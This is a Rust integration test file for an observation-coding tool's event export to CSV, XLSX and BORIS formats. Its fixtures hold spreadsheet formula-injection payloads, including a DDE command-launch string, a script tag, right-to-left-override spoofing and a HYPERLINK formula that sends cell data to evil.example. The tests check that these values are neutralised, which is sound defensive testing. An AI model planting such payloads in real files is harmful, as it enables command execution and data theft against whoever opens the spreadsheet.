//! `lgd export events` on the real binary: the tidy log keeps every count, hostile text stays inert
//! in CSV and XLSX, and the BORIS project has the shape BORIS writes.

mod common;

use std::collections::BTreeMap;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook};
use common::day::save_as;
use common::run;
use lgd_observer::catalog::{Catalog, demo_event};
use lgd_observer::clock::{Clock, ManualClock};
use lgd_observer::export::{Cell, Dialect, Sheet, write_csv_folder, write_xlsx};
use lgd_observer::model::{Act, Change, DayRecord, Entry, Event, Stamp};
use lgd_observer::store::{DataDir, DayPaths, open_day};

/// Names that would run, mislead or inject if a spreadsheet or browser trusted them.
const HOSTILE: &[(&str, &str)] = &[
    ("P74", "<script>alert(1)</script>"),
    ("P10", "=cmd|' /C calc'!A0"),
    ("P48", "+1"),
    ("P12", "-2"),
    ("P17", "@SUM(A1)"),
    ("P24", "\tTab Awal"),
    ("P61", "\u{202E}=1+1"),
    ("P26", "\u{202E}gnp.exe Budi"),
];
const HOSTILE_NOTE: &str = "=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")";

fn hostile_event() -> Event {
    let mut ev = demo_event().expect("demo");
    for (id, name) in HOSTILE {
        let p = ev
            .participants
            .iter_mut()
            .find(|p| p.id == *id)
            .expect("in demo");
        p.name = name.to_string();
    }
    ev
}

/// A day of coding by `observer` on group G1: turns, acts (targeted ones with a target), some
/// retracted, some noted; the last turn is left open when `open_turn`.
fn day(ev: &Event, observer: &str, steps: u64, open_turn: bool) -> DayRecord {
    let clock = ManualClock::jakarta();
    let mut d = DayRecord::begin(
        ev,
        Catalog::builtin().resolver(),
        observer,
        Some("G1"),
        clock.now().date_naive(),
        clock.now(),
    )
    .expect("begin");
    let seats: Vec<String> = d.groups[0].seats.values().cloned().collect();
    let codes = d.scheme.codes.clone();
    let apply = |d: &mut DayRecord, change: Change| {
        let seq = d.last_seq + 1;
        d.apply(&Entry { seq, change }).expect("apply");
        seq
    };
    let mut last_act = None;
    for i in 0..steps {
        clock.advance(1.5 + (i % 4) as f64);
        let stamp = Stamp {
            at: clock.now(),
            elapsed_s: clock.monotonic_s(),
        };
        let who = &seats[((i * 7 + 3) % seats.len() as u64) as usize];
        if i % 3 == 0 {
            apply(
                &mut d,
                Change::FloorTaken {
                    group: "G1".into(),
                    participant: who.clone(),
                    stamp,
                },
            );
        }
        let code = &codes[((i * 4) % codes.len() as u64) as usize];
        let target = code
            .targeted
            .then(|| seats[((i * 3 + 1) % seats.len() as u64) as usize].clone());
        let seq = d.last_seq + 1;
        let id = format!("{observer}-{}-{seq}", d.date);
        apply(
            &mut d,
            Change::ActCoded {
                act: std::sync::Arc::new(Act {
                    seq,
                    id: id.clone(),
                    stamp,
                    group: "G1".into(),
                    participant: who.clone(),
                    code: code.code.clone(),
                    target,
                    note: None,
                    retracted: false,
                    floor: true,
                    marks: Default::default(),
                }),
            },
        );
        if i % 7 == 6 {
            apply(&mut d, Change::ActRetracted { id: id.clone() });
        }
        if i % 11 == 5 {
            apply(
                &mut d,
                Change::ActNoted {
                    id: id.clone(),
                    note: HOSTILE_NOTE.into(),
                },
            );
        }
        last_act = Some(stamp);
    }
    if let (false, Some(mut stamp)) = (open_turn, last_act) {
        stamp.elapsed_s += 2.0;
        apply(&mut d, Change::FloorReleased { stamp });
    }
    d
}

/// Two observers' day files in a folder tree, plus files that are not day files.
fn fixture(dir: &Path) -> Vec<DayRecord> {
    let ev = hostile_event();
    let a = day(&ev, "A01", 60, false);
    let b = day(&ev, "A03", 45, true);
    save_as(&dir.join("usb/A01"), &a, "tangsel-2026_A01.json");
    save_as(&dir.join("usb/A03"), &b, "tangsel-2026_A03.json");
    std::fs::write(
        dir.join("usb/event.json"),
        lgd_observer::catalog::DEMO_EVENT_JSON,
    )
    .expect("event");
    std::fs::write(dir.join("usb/notes.txt"), "not json").expect("txt");
    vec![a, b]
}

fn read_csv(path: &Path) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let mut r = csv::Reader::from_path(path).expect("csv");
    let headers: Vec<String> = r
        .headers()
        .expect("headers")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = r
        .records()
        .map(|rec| {
            let rec = rec.expect("record");
            headers
                .iter()
                .cloned()
                .zip(rec.iter().map(str::to_string))
                .collect()
        })
        .collect();
    (headers, rows)
}

#[test]
fn tidy_csv_keeps_every_count_of_the_day_files() {
    let tmp = tempfile::tempdir().expect("tmp");
    let days = fixture(tmp.path());
    let out = tmp.path().join("events.csv");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().join("usb").as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{stderr}");
    assert!(stderr.contains("skipped"), "event file noted: {stderr}");
    let (headers, rows) = read_csv(&out);
    assert_eq!(
        headers,
        lgd_observer::export::TIDY_COLUMNS,
        "stable column order"
    );

    let mut expected: BTreeMap<(String, String, String, String), usize> = BTreeMap::new();
    for d in &days {
        for a in &d.acts {
            let k = (
                d.observer.id.clone(),
                a.participant.clone(),
                a.code.clone(),
                a.retracted.to_string(),
            );
            *expected.entry(k).or_default() += 1;
        }
        for t in &d.turns {
            let k = (
                d.observer.id.clone(),
                t.participant.clone(),
                "turn".to_string(),
                "false".to_string(),
            );
            *expected.entry(k).or_default() += 1;
        }
    }
    let mut found: BTreeMap<(String, String, String, String), usize> = BTreeMap::new();
    for r in &rows {
        let code = if r["kind"] == "turn" {
            "turn".to_string()
        } else {
            r["code"].clone()
        };
        let k = (
            r["observer"].clone(),
            r["participant"].clone(),
            code,
            r["retracted"].clone(),
        );
        *found.entry(k).or_default() += 1;
    }
    assert_eq!(found, expected);
    assert!(expected.keys().any(|k| k.3 == "true"), "fixture retracts");

    let open = rows
        .iter()
        .filter(|r| r["kind"] == "turn" && r["end"].is_empty())
        .count();
    assert_eq!(open, 1, "A03's last turn is still open");
    let targeted = rows
        .iter()
        .find(|r| !r["target"].is_empty())
        .expect("a target");
    assert!(!targeted["target_seat"].is_empty());
    assert!(rows.iter().all(|r| r["wall_time"].ends_with("+07:00")));
}

#[test]
fn hostile_text_stays_inert_in_the_tidy_csv() {
    let tmp = tempfile::tempdir().expect("tmp");
    fixture(tmp.path());
    let out = tmp.path().join("events.csv");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().join("usb").as_os_str(),
        "--lang".as_ref(),
        "id".as_ref(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let (_, rows) = read_csv(&out);
    for (id, name) in HOSTILE {
        let row = rows.iter().find(|r| r["participant"] == *id).expect("row");
        let expected = if dangerous(name) {
            format!("'{name}")
        } else {
            name.to_string()
        };
        assert_eq!(row["participant_name"], expected, "{id}");
    }
    for name in ["=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1)", "\tTab Awal"] {
        assert!(
            rows.iter()
                .any(|r| r["participant_name"] == format!("'{name}")),
            "{name:?} quoted"
        );
    }
    assert!(rows.iter().any(|r| r["note"] == format!("'{HOSTILE_NOTE}")));
    let numeric = ["seat", "target_seat", "start", "end"];
    for r in &rows {
        for (col, v) in r {
            if !numeric.contains(&col.as_str()) {
                assert!(!dangerous(v), "{col} = {v:?} is not inert");
            }
        }
    }
    assert!(
        rows.iter().any(|r| r["label"] == "Usul solusi"),
        "labels in Indonesian"
    );
}

#[test]
fn hostile_text_stays_inert_in_xlsx_with_no_formula() {
    let tmp = tempfile::tempdir().expect("tmp");
    fixture(tmp.path());
    let out = tmp.path().join("events.xlsx");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().join("usb").as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let mut book: Xlsx<_> = open_workbook(&out).expect("xlsx");
    let formulas = book.worksheet_formula("events").expect("formulas");
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
    let range = book.worksheet_range("events").expect("sheet");
    let rows: Vec<&[Data]> = range.rows().collect();
    let col = |name: &str| {
        rows[0]
            .iter()
            .position(|h| h == &Data::String(name.into()))
            .expect("column")
    };
    let (pid, pname, start) = (col("participant"), col("participant_name"), col("start"));
    for (id, name) in HOSTILE {
        let row = rows
            .iter()
            .find(|r| r[pid] == Data::String(id.to_string()))
            .expect("row");
        let Data::String(cell) = &row[pname] else {
            panic!("{id}'s name is not text: {:?}", row[pname]);
        };
        if dangerous(name) {
            assert_eq!(cell, &format!("'{name}"), "{id}");
        } else {
            assert_eq!(cell, name, "{id}");
        }
        assert!(matches!(row[start], Data::Float(_)), "numbers stay numbers");
    }
    for r in &rows {
        for cell in r.iter() {
            if let Data::String(s) = cell {
                assert!(!dangerous(s), "{s:?} is not inert");
            }
        }
    }
}

#[test]
fn sheets_write_to_xlsx_and_a_csv_folder_as_typed() {
    let tmp = tempfile::tempdir().expect("tmp");
    let mut s = Sheet::new("Final", &["name", "level", "note"]);
    for (_, name) in HOSTILE {
        s.rows
            .push(vec![(*name).into(), Cell::Number(-2.5), Cell::Empty]);
    }
    let book_path = tmp.path().join("book.xlsx");
    write_xlsx(std::slice::from_ref(&s), &book_path).expect("xlsx");
    let mut book: Xlsx<_> = open_workbook(&book_path).expect("open");
    assert!(
        book.worksheet_formula("Final")
            .expect("f")
            .used_cells()
            .all(|(_, _, f)| f.is_empty())
    );
    let range = book.worksheet_range("Final").expect("sheet");
    let row = range.rows().nth(2).expect("row");
    assert_eq!(row[0], Data::String("'=cmd|' /C calc'!A0".into()));
    assert_eq!(row[1], Data::Float(-2.5));

    let files = write_csv_folder(&[s], &tmp.path().join("csv"), Dialect::Spreadsheet).expect("csv");
    let text = std::fs::read_to_string(&files[0]).expect("read");
    assert!(text.contains("\"'-2\";-2,5;"), "{text}");
    assert!(files[0].ends_with("Final.csv"));
}

#[test]
fn boris_project_has_the_keys_and_event_shape_boris_writes() {
    let tmp = tempfile::tempdir().expect("tmp");
    let days = fixture(tmp.path());
    let out = tmp.path().join("lgd.boris");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().join("usb").as_os_str(),
        "--format".as_ref(),
        "boris".as_ref(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let text = std::fs::read_to_string(&out).expect("read");
    let piped = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().join("usb").as_os_str(),
        "--format".as_ref(),
        "boris".as_ref(),
        "--out".as_ref(),
        "-".as_ref(),
    ]);
    assert_eq!(
        String::from_utf8_lossy(&piped.stdout),
        text,
        "--out - is the same file"
    );
    let pj: serde_json::Value = serde_json::from_str(&text).expect("json");
    assert_no_null(&pj);
    assert_eq!(
        keys(&pj),
        [
            "behavioral_categories",
            "behaviors_coding_map",
            "behaviors_conf",
            "coding_map",
            "converters",
            "independent_variables",
            "observations",
            "project_date",
            "project_description",
            "project_format_version",
            "project_name",
            "subjects_conf",
            "time_format",
        ]
    );
    assert_eq!(pj["project_format_version"], "7.0");

    let subjects = keyed(&pj["subjects_conf"]);
    assert_eq!(subjects.len(), 10, "the ten members of G1");
    for s in &subjects {
        assert_eq!(keys(s), ["description", "key", "name"]);
    }
    assert!(
        subjects.iter().any(|s| s["name"] == "'=cmd|' /C calc'!A0"),
        "names BORIS may write to a spreadsheet are neutralised"
    );
    assert!(subjects.iter().any(|s| s["key"] == "0"), "seat 10 is key 0");

    let behaviors = keyed(&pj["behaviors_conf"]);
    for b in &behaviors {
        assert_eq!(
            keys(b),
            [
                "category",
                "code",
                "coding map",
                "color",
                "description",
                "excluded",
                "key",
                "modifiers",
                "type"
            ]
        );
    }
    let state: Vec<&str> = behaviors
        .iter()
        .filter(|b| b["type"] == "State event")
        .map(|b| b["code"].as_str().expect("code"))
        .collect();
    assert_eq!(state, ["floor"]);
    assert!(
        behaviors
            .iter()
            .all(|b| b["type"] == "State event" || b["type"] == "Point event")
    );
    let build = behaviors
        .iter()
        .find(|b| b["code"] == "BUILD")
        .expect("BUILD");
    let targets: Vec<&str> = build["modifiers"]["0"]["values"]
        .as_array()
        .expect("values")
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    assert_eq!(targets.len(), 10);

    let observations = pj["observations"].as_object().expect("observations");
    assert_eq!(observations.len(), 2);
    for (d, (id, obs)) in days.iter().zip(observations) {
        assert_eq!(id, &format!("tangsel-2026_2026-12-03_{}_G1", d.observer.id));
        assert_eq!(
            keys(obs),
            [
                "date",
                "description",
                "events",
                "file",
                "independent_variables",
                "media_info",
                "time offset",
                "type"
            ]
        );
        assert_eq!(obs["type"], "LIVE");
        let events = obs["events"].as_array().expect("events");
        let live = d.acts.iter().filter(|a| !a.retracted).count();
        assert_eq!(events.len(), live + 2 * d.turns.len());
        let mut last = 0.0;
        let mut floor: BTreeMap<&str, usize> = BTreeMap::new();
        for e in events {
            let e = e.as_array().expect("event is an array");
            assert_eq!(e.len(), 5);
            let t = e[0].as_f64().expect("time first");
            assert!(t >= last, "sorted by time");
            last = t;
            assert!(e[1..].iter().all(|v| v.is_string()));
            if e[2] == "floor" {
                *floor.entry(e[1].as_str().expect("subject")).or_default() += 1;
            } else if !e[3].as_str().expect("modifier").is_empty() {
                assert!(targets.contains(&e[3].as_str().expect("m")), "{:?}", e[3]);
            }
        }
        assert!(
            floor.values().all(|n| n % 2 == 0),
            "states paired {floor:?}"
        );
        assert!(
            events.iter().any(|e| e[4] == format!("'{HOSTILE_NOTE}")),
            "note as comment"
        );
    }
}

#[test]
fn unusable_inputs_stop_the_export_and_records_are_never_overwritten() {
    let tmp = tempfile::tempdir().expect("tmp");
    fixture(tmp.path());
    let day_file = tmp.path().join("usb/A01/tangsel-2026_A01.json");
    let before = std::fs::read(&day_file).expect("read");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        day_file.as_os_str(),
        "--format".as_ref(),
        "boris".as_ref(),
        "--out".as_ref(),
        day_file.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(std::fs::read(&day_file).expect("read"), before);

    let event_file = tmp.path().join("usb/event.json");
    let out = tmp.path().join("x.csv");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        event_file.as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not a day file"));

    std::fs::write(
        tmp.path().join("usb/A01/torn.json"),
        "{\"format\": \"lgd-day\",",
    )
    .expect("w");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().join("usb").as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("torn.json"));
    assert!(!out.exists(), "nothing written");
}

/// Whether a spreadsheet would start a formula: the first character after spaces and invisible
/// direction marks is one of OWASP's triggers (written out here, independent of the library).
fn dangerous(s: &str) -> bool {
    s.chars()
        .find(|c| !(*c == ' ' || ('\u{200B}'..='\u{200F}').contains(c) || *c == '\u{202E}'))
        .is_some_and(|c| "=+-@\t\r".contains(c))
}

#[test]
fn changes_still_in_the_journal_are_exported() {
    let tmp = tempfile::tempdir().expect("tmp");
    let clock = ManualClock::jakarta();
    let mut opened = open_day(
        &DataDir::at(tmp.path()),
        &demo_event().expect("demo"),
        "A01",
        None,
        clock.now().date_naive(),
        &clock,
    )
    .expect("opens");
    for seq in 1..=5 {
        clock.advance(2.0);
        let e = Entry {
            seq,
            change: Change::ActCoded {
                act: std::sync::Arc::new(Act {
                    seq,
                    id: format!("A01-2026-12-03-{seq}"),
                    stamp: Stamp {
                        at: clock.now(),
                        elapsed_s: clock.monotonic_s(),
                    },
                    group: "G1".into(),
                    participant: "P74".into(),
                    code: "PROP".into(),
                    target: None,
                    note: None,
                    retracted: false,
                    floor: true,
                    marks: Default::default(),
                }),
            },
        };
        opened.record.apply(&e).expect("applies");
        opened.writer.append(e);
    }
    opened
        .writer
        .flush(std::time::Duration::from_secs(10))
        .expect("flush");
    opened.writer.close().expect("close");
    let on_disk: DayRecord =
        serde_json::from_str(&std::fs::read_to_string(&opened.path).expect("read")).expect("day");
    assert!(on_disk.acts.is_empty(), "the acts are only in the journal");

    let out = tmp.path().join("events.csv");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{stderr}");
    assert!(stderr.contains("journal"), "{stderr}");
    let (_, rows) = read_csv(&out);
    assert_eq!(rows.iter().filter(|r| r["code"] == "PROP").count(), 5);
}

#[test]
fn a_damaged_day_file_is_read_from_its_backup_with_a_note() {
    let tmp = tempfile::tempdir().expect("tmp");
    let d = day(&hostile_event(), "A01", 20, false);
    let path = save_as(tmp.path(), &d, "tangsel-2026_A01.json");
    std::fs::copy(&path, DayPaths::of(&path).bak).expect("backup");
    std::fs::write(&path, "{\"format\": \"lgd-day\", \"acts\": [").expect("tear");
    let out = tmp.path().join("events.csv");
    let o = run([
        "export".as_ref(),
        "events".as_ref(),
        tmp.path().as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{stderr}");
    assert!(stderr.contains("backup"), "{stderr}");
    let (_, rows) = read_csv(&out);
    assert_eq!(rows.len(), d.acts.len() + d.turns.len());
}

fn keys(v: &serde_json::Value) -> Vec<&str> {
    let mut k: Vec<&str> = v
        .as_object()
        .expect("object")
        .keys()
        .map(String::as_str)
        .collect();
    k.sort_unstable();
    k
}

/// A BORIS collection: an object keyed "0", "1", ... with no gaps.
fn keyed(v: &serde_json::Value) -> Vec<&serde_json::Value> {
    let map = v.as_object().expect("object");
    (0..map.len())
        .map(|i| map.get(&i.to_string()).expect("keyed 0.."))
        .collect()
}

fn assert_no_null(v: &serde_json::Value) {
    match v {
        serde_json::Value::Null => panic!("null in a BORIS project"),
        serde_json::Value::Array(a) => a.iter().for_each(assert_no_null),
        serde_json::Value::Object(o) => o.values().for_each(assert_no_null),
        _ => {}
    }
}

/// Issue 17 items 8 and 9: `--out` into a folder that does not exist yet (CSV, XLSX and BORIS), and
/// one fixed `wall_time` shape, always with milliseconds.
#[test]
fn events_export_into_a_new_folder_with_one_wall_time_shape() {
    let tmp = tempfile::tempdir().expect("tmp");
    fixture(tmp.path());
    for (name, format) in [
        ("events.csv", "tidy"),
        ("events.xlsx", "tidy"),
        ("lgd.boris", "boris"),
    ] {
        let out = tmp.path().join("belum").join("ada").join(name);
        let o = run([
            "export".as_ref(),
            "events".as_ref(),
            tmp.path().join("usb").as_os_str(),
            "--format".as_ref(),
            format.as_ref(),
            "--out".as_ref(),
            out.as_os_str(),
        ]);
        assert!(
            o.status.success(),
            "{name}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert!(out.is_file(), "{name}");
    }
    let (_, rows) = read_csv(&tmp.path().join("belum").join("ada").join("events.csv"));
    let shape = |t: &str| {
        let b = t.as_bytes();
        t.len() == "2026-03-02T09:15:04.000+07:00".len() && b[19] == b'.' && b[23] == b'+'
    };
    assert!(
        rows.iter().all(|r| shape(&r["wall_time"])),
        "milliseconds always"
    );
}
